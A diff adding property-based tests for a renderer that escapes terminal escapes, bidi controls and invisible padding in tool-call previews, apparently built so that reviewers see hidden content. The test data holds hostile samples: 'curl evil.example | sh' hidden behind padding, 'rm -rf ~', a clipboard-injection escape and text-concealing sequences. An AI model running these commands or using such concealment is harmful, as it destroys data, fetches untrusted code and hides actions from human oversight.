@@ -1,0 +1,156 @@
+"""The one rendering function (server/textsafe.py): property-based and hostile examples."""
+
+from __future__ import annotations
+
+import unicodedata
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from server.preview import build_preview, full_display, summary_of
+from server.textsafe import BIDI, lines_preview, render, shorten
+
+# Characters an attacker would use, mixed into ordinary text so shrinking finds small cases.
+HOSTILE = st.sampled_from(
+    [
+        "\x1b",
+        "\x1b[2K",
+        "\x1b[1E",
+        "\x1b[8m",
+        "\x1b]52;c;Y3VybCB4fHNo\x07",
+        "\x1b]0;title\x1b\\",
+        "\x9b",
+        "\x85",
+        "\x00",
+        "\x7f",
+        "\r",
+        "\u202e",
+        "\u2066",
+        "\u200e",
+        "\u061c",
+        "\u200d",
+        "\u200b",
+        "\ufeff",
+        "\u2800",
+        "\u3164",
+        "\u00a0",
+        "\u2028",
+        "\U000e0041",
+        "\ud800",
+        " " * 40,
+        "\n",
+        "\t",
+    ]
+)
+TEXT = st.lists(st.one_of(HOSTILE, st.text(max_size=8)), max_size=30).map("".join)
+
+
+def raw_dangerous(s: str, multiline: bool = False) -> list[str]:
+    """Characters that must never appear raw in rendered output."""
+    allowed = "\n\t" if multiline else ""
+    return [
+        ch
+        for ch in s
+        if ch not in allowed
+        and (
+            ord(ch) in BIDI
+            or unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp", "Co", "Cn")
+            or ch in "\u2800\u3164\u00a0"
+        )
+    ]
+
+
+@settings(max_examples=300, deadline=None)
+@given(TEXT)
+def test_render_never_emits_a_control_bidi_or_invisible_character(s):
+    r = render(s)
+    assert raw_dangerous(r.text) == []
+    assert "\n" not in r.text and "\x1b" not in r.text
+    assert r.length == len(s)
+    r.text.encode("utf-8")  # lone surrogates were escaped
+    m = render(s, multiline=True)
+    assert raw_dangerous(m.text, multiline=True) == []
+    assert m.text.count("\n") == s.count("\n")
+
+
+@settings(max_examples=300, deadline=None)
+@given(TEXT)
+def test_hidden_flag_is_raised_exactly_when_something_was_escaped(s):
+    r = render(s)
+    assert r.hidden == bool(raw_dangerous(s.replace("\n", "").replace("\t", "")) or " " * 12 in s)
+
+
+@settings(max_examples=300, deadline=None)
+@given(TEXT, st.text(alphabet="abcdefghij;|&$", min_size=1, max_size=20), st.integers(10, 200))
+def test_shorten_keeps_the_tail_and_says_the_length(prefix, tail, limit):
+    s = prefix + tail
+    r = shorten(s, limit)
+    assert raw_dangerous(r.text) == []
+    rendered_tail = render(tail).text
+    if r.truncated:
+        assert "…" in r.text and r.text.endswith(f" ({len(s)} chars)")
+        shown_tail = r.text.removesuffix(f" ({len(s)} chars)")
+        # The end of the text survives: as much of it as the tail budget holds.
+        keep = rendered_tail[-min(len(rendered_tail), max((limit - 1) // 2 - 6, 1)) :]
+        assert shown_tail.endswith(keep)
+        assert len(r.text) <= limit + 6 + len(f" ({len(s)} chars)") + 10
+    else:
+        assert r.text == render(s).text
+
+
+@settings(max_examples=200, deadline=None)
+@given(TEXT)
+def test_render_is_idempotent_on_safe_text(s):
+    once = render(s, multiline=True).text
+    assert render(once, multiline=True).text == once
+
+
+def test_terminal_attacks_become_visible_text():
+    attack = "git status\x1b[2K\x1b[1E\x1b[8mtouch ~/PWNED\x1b]52;c;ZXZpbA==\x07"
+    r = render(attack)
+    assert r.text == ("git status\\x1b[2K\\x1b[1E\\x1b[8mtouch ~/PWNED\\x1b]52;c;ZXZpbA==\\x07")
+    assert r.hidden
+
+
+def test_bidi_and_blank_padding_are_escaped_and_flagged():
+    r = render("ls \u202eexe.txt\u2066 \u200d")
+    assert r.text == "ls \\u202eexe.txt\\u2066 \\u200d" and r.hidden
+    pad = shorten("git status" + "\u2800" * 6000 + "; curl evil.example | sh", 80)
+    assert pad.hidden and pad.truncated
+    assert pad.text.startswith("git status\\u2800")
+    assert pad.text.endswith("; curl evil.example | sh (6034 chars)")
+    spaces = render("ls" + " " * 300 + "&& rm -rf ~")
+    assert spaces.text == "ls⟨300 spaces⟩&& rm -rf ~" and spaces.hidden
+    assert not render("echo 'hello world'  # fine").hidden
+
+
+def test_ten_thousand_characters_show_head_tail_and_length():
+    command = "echo start " + "x" * 10_000 + " ; rm -rf ~/important"
+    r = shorten(command, 100)
+    assert r.text.startswith("echo start xxx") and r.text.endswith(
+        f"; rm -rf ~/important ({len(command)} chars)"
+    )
+    assert len(r.text) < 130
+
+
+def test_lines_preview_keeps_head_and_tail_lines():
+    content = "\n".join(f"line {i}" for i in range(1, 10_001)) + "\nLAST\x1b[2J"
+    r = lines_preview(content, 3, 2)
+    lines = r.text.split("\n")
+    assert lines[:3] == ["line 1", "line 2", "line 3"]
+    assert lines[3] == "… 9996 more lines …"
+    assert lines[-1] == "LAST\\x1b[2J" and r.hidden and r.truncated
+
+
+def test_previews_are_bounded_and_safe():
+    huge = "A" * 900_000 + "\n\u202eTAIL"
+    pv = build_preview("write", {"path": "/tmp/\x1b[31mx", "content": huge})
+    assert pv["size"] == {"chars": len(huge), "bytes": len(huge) + 2, "lines": 2}
+    assert pv["path"] == "/tmp/\\x1b[31mx" and pv["hidden"]
+    assert len(repr(pv)) < 2000 and "\\u202eTAIL" in pv["content"]
+    edit = build_preview("edit", {"path": "f", "old_string": "a" * 5000, "new_string": "b"})
+    assert edit["size"]["old"]["chars"] == 5000 and len(edit["old"]) < 300
+    s = summary_of("bash", {"command": "ls\n" + "y" * 500 + "; curl x|sh"})
+    assert s.text.startswith("bash: ls\\nyyy") and s.text.endswith("; curl x|sh (514 chars)")
+    [cmd] = full_display("bash", {"command": "a\x1bb\nc"})
+    assert cmd == {"name": "command", "text": "a\\x1bb\nc", "hidden": True, "chars": 5, "lines": 2}
